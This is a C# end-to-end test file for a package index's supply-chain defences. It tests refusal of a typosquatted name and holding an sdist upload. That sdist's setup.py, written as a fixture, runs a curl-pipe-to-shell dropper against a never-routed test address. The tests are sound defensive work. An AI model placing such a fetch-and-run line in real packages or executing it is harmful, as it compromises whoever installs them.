using System.Formats.Tar;
using System.IO.Compression;
using System.Text;
using Bulwark.EndToEnd.Tests.Infrastructure;

namespace Bulwark.EndToEnd.Tests;

/// <summary>
/// Detection as a publisher and an installer meet it: twine refused a typosquat of a name an admin protected with the
/// verb, and an sdist whose setup.py downloads and runs a payload held by the upload scan, which pip then cannot
/// install, with the finding in <c>report list</c>.
/// </summary>
[Collection(EndToEndCollection.Name)]
public sealed class DetectionTests(EndToEndFixture e2e)
{
    [Fact]
    public async Task Twine_is_refused_a_typosquat_of_a_protected_name_with_the_similar_project_and_the_rule()
    {
        // The verb runs in its own process: the server learns of the addition through the shared change signal.
        var protect = await e2e.Cli.RunAsync(["names", "protect", "bwguardian"]);
        Check.Succeeded(protect, e2e, 0, "bulwark names protect bwguardian");
        var squat = await e2e.Packages.BuildAsync(new PythonProject("bwguadrian", "1.0", BuildBackend.FlitCore));
        var token = await e2e.Server.CreateTokenAsync("squatter");

        var mark = e2e.Server.Requests.Mark();
        var result = await e2e.Publish.TwineUploadAsync(e2e.Server.UploadUrl, token, squat.Files);

        Check.Failed(result, e2e, mark, "twine uploading a typosquat of a protected name");
        Check.OutputContains(result, "400", e2e, mark);
        Check.OutputContains(result, "The name 'bwguadrian' is too similar to the protected project 'bwguardian' (rule: transposition)", e2e, mark);
        var (status, _) = await e2e.Index.GetAsync("pypi/bwguadrian/json", "application/json");
        Assert.Equal(System.Net.HttpStatusCode.NotFound, status);
    }

    [Fact]
    public async Task An_sdist_whose_setup_py_downloads_and_runs_a_payload_is_held_and_pip_cannot_install_it()
    {
        // Written here rather than built: building it would run its setup.py. The address is TEST-NET-1 (never routed).
        var sdist = WriteSdist(e2e.NewDirectory("dropper"), "bwdropper", "1.0",
            "import os\nfrom setuptools import setup\nos.system('curl -s http://192.0.2.7/stage2 | sh')\nsetup(name='bwdropper', version='1.0')\n");
        var token = await e2e.Server.CreateTokenAsync("dropper-user");

        var mark = e2e.Server.Requests.Mark();
        var upload = await e2e.Publish.TwineUploadAsync(e2e.Server.UploadUrl, token, [sdist], "--verbose");
        Check.Succeeded(upload, e2e, mark, "twine uploading the dropper (held, not refused, by default)");
        Check.OutputContains(upload, "held for review", e2e, mark);

        var pip = await PipInstaller.CreateAsync(PipFlavour.DebianVenv, e2e.NewDirectory("dropper-pip"), e2e.Tools);
        mark = e2e.Server.Requests.Mark();
        var install = await pip.InstallAsync(e2e.Server.IndexUrl, "bwdropper");
        Check.Failed(install, e2e, mark, "pip install bwdropper");
        Check.OutputContains(install, "No matching distribution found for bwdropper", e2e, mark);
        Check.That(!e2e.Server.Requests.Since(mark).Any(r => r.Path.EndsWith(".tar.gz", StringComparison.Ordinal)),
            "pip must not have been offered the held file", e2e, mark, install);

        var reports = await e2e.Cli.RunAsync(["report", "list", "--open"]);
        Check.Succeeded(reports, e2e, 0, "bulwark report list --open");
        Check.OutputContains(reports, "bwdropper", e2e, 0);
        Check.OutputContains(reports, "shell-downloader in ", e2e, 0);
        Check.OutputContains(reports, "setup.py line 3", e2e, 0);
    }

    /// <summary>A minimal sdist (PKG-INFO, pyproject.toml, setup.py, a package) as the tarball twine uploads.</summary>
    private static string WriteSdist(string directory, string name, string version, string setupPy)
    {
        var prefix = $"{name}-{version}";
        var members = new (string Path, string Content)[]
        {
            ($"{prefix}/PKG-INFO", $"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: A package built by Bulwark's end-to-end tests\n"),
            ($"{prefix}/pyproject.toml", "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n"),
            ($"{prefix}/setup.py", setupPy),
            ($"{prefix}/{name}/__init__.py", "\n"),
        };
        var path = Path.Combine(directory, $"{prefix}.tar.gz");
        using var file = File.Create(path);
        using var gz = new GZipStream(file, CompressionLevel.Optimal);
        using var tar = new TarWriter(gz, TarEntryFormat.Pax);
        foreach (var (member, content) in members)
        {
            tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, member) { DataStream = new MemoryStream(Encoding.UTF8.GetBytes(content)) });
        }
        return path;
    }
}
